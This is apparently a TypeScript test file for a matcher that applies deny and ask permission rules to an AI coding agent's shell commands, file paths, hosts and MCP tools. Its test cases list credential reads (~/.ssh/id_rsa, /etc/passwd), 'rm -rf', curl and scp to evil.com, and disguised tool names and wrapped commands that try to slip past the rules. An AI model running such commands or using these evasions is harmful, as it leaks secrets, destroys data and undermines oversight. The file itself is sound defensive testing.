/** What deny and ask rules meet: rows over simple commands, `rule`, `ask`, `bare` or nothing. */
import { describe, expect, test } from "vitest";
import type { RuleCall } from "./call.ts";
import { meets, parseRule } from "./index.ts";
import { ROOT, shellCall, smallDisk, toolCall } from "./testing.ts";

type Answer = "rule" | "ask" | "bare" | undefined;

function answer(text: string, call: RuleCall): Answer {
  const rule = parseRule(text, "deny", "test");
  if (!rule.ok) throw new Error(rule.error);
  return meets(rule.value, call)?.answer;
}

describe("rules on commands", () => {
  test.each<[string, string, Answer]>([
    ["Bash(git push:*)", "git push origin main", "rule"],
    ["Bash(git push:*)", "git push", "rule"],
    ["Bash(git push:*)", "git status", undefined],
    ["Bash(git push:*)", "git pushx", undefined],
    ["Bash(git push:*)", "cd src && git push", "rule"],
    ["Bash(git push:*)", "GIT push", "rule"],
    ["Bash(git push:*)", "/usr/bin/git push", "rule"],
    ["Bash(git push:*)", "timeout 5 git push", "rule"],
    ["Bash(git push:*)", "FOO=1 git push", "rule"],
    ["Bash(git push:*)", "git -C sub push", "rule"],
    ["Bash(git push:*)", "git -c a.b=c -C sub push origin", "rule"],
    ["Bash(git push)", "git -C sub push", "rule"],
    ["Bash(git push)", "git push origin", undefined],
    ["Bash(git push)", "git push --force", undefined],
    ["Bash(git push --force:*)", "git push origin main -f", "rule"],
    ["Bash(git push --force:*)", "git push origin main", undefined],
    ["Bash(git push -f:*)", "git push --force origin", "rule"],
    ["Bash(git branch -D:*)", "git branch -D x", "rule"],
    ["Bash(git branch -D:*)", "git branch -d x", undefined],
    ["Bash(rm -rf:*)", "rm -r -f x", "rule"],
    ["Bash(rm -rf:*)", "rm x --recursive --force", "rule"],
    ["Bash(rm -rf *)", "rm -fr x", "rule"],
    ["Bash(rm -rf:*)", "rm -f x", undefined],
    ["Bash(git * main)", "git push origin main", "rule"],
    ["Bash(git * main)", "git push origin dev", undefined],
    ["Bash(git * main)", 'git commit -m "back to main"', undefined],
    ["Bash(git *--force*)", "git push --force", "rule"],
    ["Bash(git *--force*)", "git push -f", "rule"],
    ["Bash(make deploy)", "make deploy", "rule"],
    ["Bash(make deploy)", "make deploy x", undefined],
    ["Bash(make deploy:*)", "make -j 4 deploy", "rule"],
    ["Bash(kubectl delete:*)", "kubectl -n prod delete pod x", "rule"],
    ["Bash(sudo:*)", "sudo ls", "rule"],
    ["Bash(sudo rm:*)", "sudo rm x", "rule"],
    ["Bash(sudo rm:*)", "rm x", undefined],
    ["Bash(npm run test *)", "npm run test", "rule"],
    ["Bash(CI=1 make:*)", "CI=1 make", "rule"],
    ["Bash(CI=1 make:*)", "make", undefined],
    ["Bash", "ls", "rule"],
    ["*", "ls", "rule"],
    ["Bash(*)", "ls", "rule"],
  ])("%s and %s: %s", (rule, text, expected) => expect(answer(rule, shellCall(text))).toBe(expected));

  test.each<[string, string, Answer]>([
    ["Bash(git push:*)", "git $WHAT", "bare"],
    ["Bash(git push:*)", "git pu$X", "bare"],
    ["Bash(git push:*)", "git sta$X", undefined],
    ["Bash(git push:*)", "git status $X", undefined],
    ["Bash(git push:*)", "$GIT push", "bare"],
    ["Bash(git push:*)", "git p?sh", "bare"],
    ["Bash(rm -rf:*)", 'rm -f "$X"', undefined],
    ["Bash(git push:*)", "npm $X", undefined],
  ])("an unknown word never denies: %s and %s: %s", (rule, text, expected) =>
    expect(answer(rule, shellCall(text))).toBe(expected),
  );

  test.each<[string, string, Answer]>([
    ["Bash(git push:*)", "wrapped git push", "ask"],
    ["Bash(git push:*)", "ssh host 'git push'", "ask"],
    ["Bash(git push:*)", 'python3 -c \'run(["git", "push"])\'', "ask"],
    ["Bash(git push:*)", 'node -e \'spawn("git", ["push"])\'', "ask"],
    ["Bash(git push:*)", "python3 - <<EOF\nos.system('git push')\nEOF", "ask"],
    ["Bash(git push:*)", "python3 - <<EOF\nos.system('''set -e\ngit push\n''')\nEOF", "ask"],
    ["Bash(git push:*)", "python3 -c 'os.system(\"cd x\\ngit push\")'", "ask"],
    ["Bash(git push:*)", "git add push", undefined],
    ["Bash(git push:*)", "git am <<EOF\ngit push\nEOF", "ask"],
    ["Bash(git push:*)", "echo git push", undefined],
    ["Bash(git push:*)", "cat <<EOF\ngit push\nEOF", undefined],
    ["Bash(git push:*)", 'git commit -m "then git push"', undefined],
    ["Bash(git push:*)", "git commit -F - <<EOF\nthen git push\nEOF", undefined],
    ["Bash(rm:*)", "npm rm x", undefined],
    ["Bash(rm:*)", "python3 - <<EOF\nos.system('rm x')\nEOF", "ask"],
    ["Bash(rm:*)", "python3 - <<EOF\nalarm = confirm\nEOF", undefined],
  ])("a mention: %s and %s: %s", (rule, text, expected) => expect(answer(rule, shellCall(text))).toBe(expected));

  test("a server's tool called like the command", () => {
    expect(answer("Bash(git push:*)", toolCall("mcp__git__git_push"))).toBe("ask");
    expect(answer("Bash(git push:*)", toolCall("mcp__x__run", {}, { codes: ["git push origin"] }))).toBe("ask");
  });
});

describe("rules on places", () => {
  const disk = smallDisk([
    `${ROOT}/secret/key`,
    `${ROOT}/src/a.ts`,
    `${ROOT}/.env`,
    `${ROOT}/alias -> secret`,
    `${ROOT}/yarn.lock`,
    `${ROOT}/docs/x.md`,
    `${ROOT}/secret/in/x`,
    `${ROOT}/deep -> secret/in`,
  ]);
  const on = (rule: string, text: string): Answer => answer(rule, shellCall(text, { disk }));

  test.each<[string, string, Answer]>([
    ["Read(./secret/**)", "cat secret/key", "rule"],
    ["Read(./secret/**)", "cat src/../secret/key", "rule"],
    ["Read(./secret/**)", "cat alias/key", "rule"],
    ["Read(./alias/**)", "cat secret/key", "rule"],
    ["Read(./secret/**)", "cat SECRET/key", "rule"],
    ["Read(./secret/**)", "cat s*/key", "rule"],
    ["Read(./secret/**)", "cat src/a.ts", undefined],
    ["Read(./secret/**)", "cp secret/key src/b", "rule"],
    ["Read(./secret/**)", "mv secret/key src/b", "rule"],
    ["Read(./secret/**)", "git add secret/key", "rule"],
    ["Read(./secret/**)", "ls secret", "rule"],
    ["Read(./secret/**)", "ls secret/sub", "rule"],
    ["Read(./secret)", "ls secret", "rule"],
    ["Read(./secret/**)", "grep -r x .", "bare"],
    ["Read(./secret/**)", "grep -r x src", undefined],
    ["Read(.env)", "grep -r x .", "bare"],
    ["Read(.env)", "grep -rn .env src", undefined],
    ["Read(.env)", "git add -A .", "bare"],
    ["Read(./secret/**)", "sort < secret/key", "rule"],
    ["Read(./secret/**)", "cat $F", undefined],
    ["Read(./secret/**)", "cat ./$F", "bare"],
    ["Read(*.pem)", "cat secret/$F", undefined],
    ["Read(./secret/**)", "frob --message 'not secret/key'", undefined],
    ["Read(./secret/**)", "cat src/$F", undefined],
    ["Read(./secret/**)", "cat secret/$F", "bare"],
    ["Read(./secret/**)", "frob secret/key", "ask"],
    ["Read(./secret/**)", "frob --in=secret/key", "ask"],
    ["Read(./secret/**)", "frob -v secret/key:/x", "ask"],
    ["Read(./secret/**)", "python3 -c 'open(\"secret/key\")'", "ask"],
    ["Read(./secret/**)", "python3 - <<EOF\nopen('secret/key')\nEOF", "ask"],
    ["Read(./secret/**)", "frob <<EOF\n.read secret/key\nEOF", "ask"],
    ["Read(./secret/**)", "frob --value file://secret/key", "ask"],
    ["Read(./secret/**)", "frob --body @secret/key", "ask"],
    ["Read(./secret/**)", "frob <<EOF\nsend @secret/key\nEOF", "ask"],
    ["Read(./secret/**)", "frob <<EOF\nsee https://x.org/?f=@secret/key\nEOF", undefined],
    ["Read(./secret/**)", "cat k=secret/key", "rule"],
    ["Read(./secret/**)", "cat deep/../key", "rule"],
    ["Edit(./src/**)", "frob <<EOF\n+++ b/src/a.ts\nEOF", "ask"],
    ["Edit(./docs/x.md)", "cp src/x.md docs", "rule"],
    ["Edit(./docs/x.md)", "cp src/a.ts docs", undefined],
    ["Edit(./docs/x.md)", "cat src/x.md docs", undefined],
    ["Read(./secret/**)", "git commit -m 'keep secret/key out'", undefined],
    ["Read(./secret/**)", "echo secret/key", undefined],
    ["Read(./secret/**)", "git diff -- secret/key", undefined],
    ["Read(./secret/**)", "git show HEAD:secret/key", undefined],
    ["Read(~/.ssh/**)", "cat ~/.ssh/id_rsa", "rule"],
    ["Read(~/.ssh/**)", "cat $HOME/.ssh/id_rsa", "rule"],
    ["Read(//etc/passwd)", "cat /etc/passwd", "rule"],
    ["Read(/etc/passwd)", "cat /etc/passwd", "rule"],
    ["Read(*.pem)", "cat x/y/z.pem", "rule"],
    ["Edit(./src/**)", "rm src/a.ts", "rule"],
    ["Edit(./src/**)", "echo x > src/new", "rule"],
    ["Edit(./src/**)", "cp yarn.lock src/", "rule"],
    ["Edit(./src/**)", "cp yarn.lock src/x", "rule"],
    ["Edit(./src/**)", "rm -rf .", "rule"],
    ["Edit(./none/**)", "rm -rf .", undefined],
    ["Edit(./src/**)", "mv src b", "rule"],
    ["Edit(./src/**)", "cat src/a.ts", undefined],
    ["Edit(*.lock)", "cat yarn.lock", undefined],
    ["Edit(*.lock)", "rm docs", undefined],
    ["Edit(./{src,docs}/**)", "rm docs/x.md", "rule"],
    ["Edit(./**/[xy].md)", "rm docs/x.md", "rule"],
  ])("%s and %s: %s", (rule, text, expected) => expect(on(rule, text)).toBe(expected));

  test.each<[string, RuleCall, Answer]>([
    ["Read(.env)", toolCall("Read", {}, { places: [{ path: `${ROOT}/.env`, role: "read" }], disk }), "rule"],
    ["Read(.env)", toolCall("Grep", {}, { places: [{ path: ROOT, role: "search" }], disk }), "bare"],
    ["Edit(.env)", toolCall("Write", {}, { places: [{ path: `${ROOT}/.env`, role: "write" }], disk }), "rule"],
    ["Edit(.env)", toolCall("Read", {}, { places: [{ path: `${ROOT}/.env`, role: "read" }], disk }), undefined],
    ["Read(.env)", toolCall("mcp__fs__get", {}, { codes: [`${ROOT}/.env`], disk }), "ask"],
    ["Edit", toolCall("Write"), "rule"],
  ])("%s and a tool's own place", (rule, call, expected) => expect(answer(rule, call)).toBe(expected));

  test("a relative rule of a project's file stands where that file says, and in further roots", () => {
    const call = shellCall("cat /home/u/other/secret/key", { roots: ["/home/u/other"], disk });
    expect(answer("Read(./secret/**)", call)).toBe("rule");
  });
});

describe("rules on hosts", () => {
  const EVIL = "WebFetch(domain:evil.com)";
  test.each<[string, string, Answer]>([
    [EVIL, "curl https://evil.com/x", "rule"],
    [EVIL, "curl https://sub.EVIL.com./x", "rule"],
    [EVIL, "curl https://u:p@evil.com:8443/x", "rule"],
    [EVIL, "curl https://notevil.com/x", undefined],
    [EVIL, "curl https://evil.com.good.org/x", undefined],
    [EVIL, "curl evil.com", "rule"],
    [EVIL, 'curl "$URL"', "bare"],
    [EVIL, "curl https://good.org/$X", undefined],
    [EVIL, "curl https://evil.com/$X", "rule"],
    [EVIL, "frob --to=evil.com:443", "rule"],
    [EVIL, "cat :http:evil.com", "rule"],
    [EVIL, "frob - <<EOF\nhttps://evil.com\nEOF", "ask"],
    [EVIL, "cat - <<EOF\nhttps://evil.com\nEOF", undefined],
    [EVIL, "scp a u@evil.com:b", "rule"],
    [EVIL, "echo https://evil.com", undefined],
    [EVIL, "cat https://evil.com/x", "rule"],
    [EVIL, "cat sites/evil.com/x", undefined],
    [EVIL, "python3 -c 'get(\"https://evil.com\")'", "rule"],
    [EVIL, "python3 - <<EOF\nget('https://evil.com')\nEOF", "ask"],
    ["WebFetch(domain:127.0.0.1)", "curl http://2130706433/", "rule"],
    ["WebFetch(domain:*.evil.com)", "curl https://a.evil.com", "rule"],
  ])("%s and %s: %s", (rule, text, expected) => expect(answer(rule, shellCall(text))).toBe(expected));

  test("a program that names no host is met by the host its remote names", () => {
    const push = (hosts: readonly (string | null)[]) => shellCall("git push", { remoteHosts: () => hosts });
    expect(answer(EVIL, push(["evil.com"]))).toBe("rule");
    expect(answer(EVIL, push([null]))).toBe("bare");
    expect(answer(EVIL, push(["good.org"]))).toBe(undefined);
    expect(answer(EVIL, toolCall("WebFetch", {}, { hosts: ["EVIL.com."] }))).toBe("rule");
  });
});

describe("rules on tools", () => {
  test.each<[string, string, boolean]>([
    ["mcp__git", "mcp__git__push", true],
    ["mcp__git__pu*", "mcp__git__push", true],
    ["mcp__git__push", "mcp__git__pull", false],
    ["mcp__git", "mcp__github__push", false],
    ["mcp__evil__danger", "mcp__evil___danger", true],
    ["mcp__evil__danger", "mcp__evil__%20danger", true],
    ["mcp__evil__danger", "mcp__evil__dan__ger%0A", true],
    ["mcp__evil__danger", "mcp__evil__mcp__evil__danger", true],
    ["mcp__evil__danger", "claude-code:mcp__evil__ danger", true],
    ["mcp__evil__askme", "mcp__evil__ask-me", true],
    ["mcp__evil__danger", "mcp__evil__dangerous", false],
    ["mcp__evil__danger", "mcp__evilest__danger", false],
    ["mcp__*__delete", "mcp__fs__undelete", false],
    ["Task", "Agent", true],
    ["agent", "Agent", true],
    ["Bash", "BashInput", true],
    ["Read", "Grep", true],
  ])("%s and %s: %j", (rule, tool, met) => expect(answer(rule, toolCall(tool)) === "rule").toBe(met));

  test("by name", () => {
    const agent = toolCall("Agent", { prompt: "x", subagent_type: "Deployer" });
    expect(answer("Agent(deployer)", agent)).toBe("rule");
    expect(answer("Task(deployer)", agent)).toBe("rule");
    expect(answer("Agent(other)", agent)).toBe(undefined);
    expect(answer("Skill(x:*)", toolCall("Skill", { skill: "/x:do now" }))).toBe("rule");
  });
});
